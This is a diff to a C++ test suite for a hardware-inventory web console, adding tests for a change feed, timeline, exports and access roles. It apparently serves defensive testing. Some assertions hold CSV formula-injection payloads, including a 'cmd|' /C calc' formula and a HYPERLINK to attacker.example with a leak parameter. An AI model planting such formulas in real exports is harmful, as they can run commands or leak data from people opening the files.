@@ -17,6 +17,7 @@
 #include <memory>
 #include <nlohmann/json.hpp>
 #include <regex>
+#include <set>
 #include <thread>
 
 #include "ConsoleTesting.h"
@@ -685,7 +686,8 @@ TEST_P(ConsoleTest, HostileReportIsEscapedOnEveryPageAndDefusedInTheCsv) {
     const std::vector<std::string> pages = {
         "/machines", "/machines?sort=maker&dir=desc", "/machines?q=javascript",
         "/machines/" + std::to_string(machine), "/scans/" + std::to_string(first),
-        "/diff?a=" + std::to_string(first) + "&b=" + std::to_string(second)};
+        "/diff?a=" + std::to_string(first) + "&b=" + std::to_string(second), "/changes",
+        "/changes?machine=" + std::to_string(machine)};
     for (const auto& path : pages) {
         const Response r = console_(request("GET", path, cookie));
         ASSERT_EQ(r.status, 200) << path;
@@ -714,6 +716,18 @@ TEST_P(ConsoleTest, HostileReportIsEscapedOnEveryPageAndDefusedInTheCsv) {
     EXPECT_NE(search.body.find("value=\"&lt;script&gt;\""), std::string::npos);
     EXPECT_NE(search.body.find("/machines/" + std::to_string(machine) + "\""), std::string::npos);
 
+    // The disk's serials are formulas: the change's CSV holds them, and no field of it starts
+    // one (the fields it shows alone, the serial number's, are defused like the list's).
+    const Response changesCsv = console_(request("GET", "/changes.csv?machine=" + std::to_string(machine), cookie));
+    ASSERT_EQ(changesCsv.status, 200);
+    EXPECT_NE(changesCsv.body.find("Serial number =cmd|' /C calc'!A0 → +SUM(1+1)*cmd|"), std::string::npos)
+        << changesCsv.body;
+    std::istringstream changeLines(changesCsv.body);
+    for (std::string line; std::getline(changeLines, line);) {
+        for (const std::regex& formula : {std::regex("(^|,)[=+@-]"), std::regex("(^|,)\"[=+@-]")}) {
+            EXPECT_FALSE(std::regex_search(line, formula)) << line;
+        }
+    }
     const Response csv = console_(request("GET", "/machines.csv", cookie));
     EXPECT_NE(csv.body.find(",\"'=HYPERLINK(\"\"http://attacker.example/?leak\"\",\"\"Open\"\")\","), std::string::npos)
         << csv.body.substr(0, 2000);
@@ -803,7 +817,10 @@ TEST_P(ConsoleTest, MachinePageShowsTheHardwareAsATechnicianReadsIt) {
     const Response latest = console_(request("GET", "/machines/" + std::to_string(machine), cookie));
     EXPECT_NE(latest.body.find("Latest scan"), std::string::npos);
     EXPECT_NE(latest.body.find("Samsung SSD 860 EVO 500GB"), std::string::npos);
-    EXPECT_EQ(latest.body.find("WDC WD5000AAKS-00YGA0"), std::string::npos);
+    // The hardware shown is the latest scan's (the old disk is named only where the page
+    // says what changed).
+    const std::string shown = latest.body.substr(0, latest.body.find("id=\"changes\""));
+    EXPECT_EQ(shown.find("WDC WD5000AAKS-00YGA0"), std::string::npos);
 }
 
 // A report of other hardware that claims the workstation's UUID and serial (anyone can post
@@ -1206,6 +1223,87 @@ TEST_P(ConsoleTest, DiffPageShowsTheMovedModuleAndTheReplacedDiskOnly) {
     EXPECT_EQ(console_(request("GET", "/diff?a=" + std::to_string(a) + "&b=99999999", cookie)).status, 404);
 }
 
+// A second scan that moved a module and replaced a disk: the feed, the machine's
+// timeline and the exports say so, each row leading to the machine and to the two scans
+// compared; the filters narrow it, and what they cannot read is said.
+TEST_P(ConsoleTest, TheChangeFeedAndTheTimelineShowWhatTheDifferFound) {
+    const std::string cookie = signIn();
+    // A machine of this test's own (the database may be shared), scanned twice.
+    MachineWmi before = workstation();
+    before.serial = "CHG-" + prefix_;
+    MachineWmi after = before;
+    after.disks[1] = {"Samsung SSD 860 EVO 500GB", "S3Z1NB0K812345A", "RVT04B6Q", 500107862016ULL};
+    after.volumeFree = 97334234624ULL;
+    const auto first = store_->addScan(newScan(sealedScan("dell-libsmbios-Precision_390", before), kStart - 2000));
+    const auto second = store_->addScan(
+        newScan(sealedScan("dell-libsmbios-Precision_390", after, moveFirstModule), kStart - 1000));
+    ASSERT_EQ(first.machineId, second.machineId);
+    const auto machine = first.machineId;
+    const std::string m = std::to_string(machine);
+    const std::string a = std::to_string(first.scanId);
+    const std::string b = std::to_string(second.scanId);
+    const std::string diffHref = "/diff?a=" + a + "&amp;b=" + b;
+
+    const Response feed = console_(request("GET", "/changes?machine=" + m, cookie));
+    ASSERT_EQ(feed.status, 200) << feed.body;
+    EXPECT_EQ(count(feed.body, "<span class=\"tag moved\">moved</span>"), 1u);
+    EXPECT_EQ(count(feed.body, "<span class=\"tag changed\">changed</span>"), 1u);
+    EXPECT_EQ(count(feed.body, "<span class=\"tag added\">"), 0u);
+    EXPECT_EQ(count(feed.body, "<span class=\"tag removed\">"), 0u);
+    EXPECT_EQ(count(feed.body, "href=\"" + diffHref + "\""), 2u);
+    EXPECT_NE(feed.body.find("href=\"/machines/" + m + "\""), std::string::npos);
+    EXPECT_NE(feed.body.find("Memory module"), std::string::npos);
+    EXPECT_NE(feed.body.find("S3Z1NB0K812345A"), std::string::npos) << "the new disk";
+    EXPECT_NE(feed.body.find("href=\"/changes\">Changes</a>"), std::string::npos) << "in the bar";
+
+    const Response moved = console_(request("GET", "/changes?machine=" + m + "&change=moved", cookie));
+    EXPECT_EQ(count(moved.body, "<span class=\"tag "), 1u);
+    EXPECT_NE(moved.body.find("<option value=\"moved\" selected>"), std::string::npos);
+    const Response disks = console_(request("GET", "/changes?machine=" + m + "&component=disk", cookie));
+    EXPECT_EQ(count(disks.body, "<span class=\"tag changed\">"), 1u);
+    EXPECT_EQ(count(disks.body, "<span class=\"tag moved\">"), 0u);
+    const Response future = console_(request("GET", "/changes?machine=" + m + "&since=2099-01-01", cookie));
+    EXPECT_NE(future.body.find("No change matches."), std::string::npos);
+    for (const std::string bad : {"change=swapped", "component=%3Cscript%3E", "since=yesterday",
+                                  "since=2026-02-01&until=2026-01-01", "machine=x", "after=12", "after=1.x"}) {
+        const Response r = console_(request("GET", "/changes?" + bad, cookie));
+        EXPECT_EQ(r.status, 400) << bad;
+        EXPECT_NE(r.body.find("class=\"alert\""), std::string::npos) << bad;
+        EXPECT_EQ(r.body.find("<script"), std::string::npos) << bad;
+    }
+
+    // The machine's page: the timeline under the scan that showed the changes.
+    const std::string page = console_(request("GET", "/machines/" + m, cookie)).body;
+    const auto section = page.find("id=\"changes\"");
+    ASSERT_NE(section, std::string::npos);
+    const std::string timeline = page.substr(section, page.find("</section>", section) - section);
+    EXPECT_EQ(count(timeline, "<li class=\"scan\">"), 1u) << "one scan changed something";
+    EXPECT_EQ(count(timeline, "<span class=\"tag "), 2u);
+    EXPECT_NE(timeline.find("href=\"" + diffHref + "\""), std::string::npos);
+    EXPECT_NE(timeline.find("href=\"/changes.csv?machine=" + m + "\""), std::string::npos);
+
+    // Exports, audited like the others.
+    const Response json = console_(request("GET", "/changes.json?machine=" + m, cookie));
+    ASSERT_EQ(json.status, 200);
+    const auto list = nlohmann::json::parse(json.body);
+    ASSERT_EQ(list.size(), 2u);
+    std::multiset<std::string> kinds;
+    for (const auto& c : list) {
+        kinds.insert(c["component"].get<std::string>() + " " + c["change"].get<std::string>());
+        EXPECT_EQ(c["machineId"], machine);
+        EXPECT_EQ(std::to_string(c["previousScanId"].get<std::int64_t>()), a);
+    }
+    EXPECT_EQ(kinds, (std::multiset<std::string>{"disk changed", "memory moved"}));
+    const Response csv = console_(request("GET", "/changes.csv?machine=" + m, cookie));
+    EXPECT_EQ(count(csv.body, "\r\n"), 3u);
+    EXPECT_NE(headerOf(csv, "Content-Disposition").find("machine-" + m + "-changes.csv"), std::string::npos);
+    const auto exports = auditOf(user_, std::string(storage::audit::kExport));
+    ASSERT_GE(exports.size(), 2u);
+    EXPECT_EQ(exports[0].target, "machine-" + m + "-changes.csv");
+    EXPECT_EQ(exports[1].target, "machine-" + m + "-changes.json");
+    EXPECT_EQ(exports[0].detail, "machine " + m);
+}
+
 TEST_P(ConsoleTest, ExportsGiveTheReportAsSentAsUtf8AndTheScanAsJson) {
     const std::string cookie = signIn();
     const auto scan = scanOf("workstation, first scan");
@@ -1552,6 +1650,10 @@ TEST_P(ConsoleTest, EachRouteAnswersEachRoleAsItsRowSays) {
         {"GET", "/scans/" + s, 303, 200, 200},
         {"GET", "/diff?a=" + o + "&b=" + s, 303, 200, 200},
         {"GET", "/machines.csv", 401, 200, 200},
+        {"GET", "/changes", 303, 200, 200},
+        {"GET", "/changes?component=memory&change=moved&since=2026-01-01", 303, 200, 200},
+        {"GET", "/changes.csv", 401, 200, 200},
+        {"GET", "/changes.json?machine=" + m, 401, 200, 200},
         {"GET", "/scans/" + s + ".json", 401, 200, 200},
         {"GET", "/scans/" + s + "/report", 401, 200, 200},
         {"GET", "/scans/" + s + "/report.xml", 401, 200, 200},
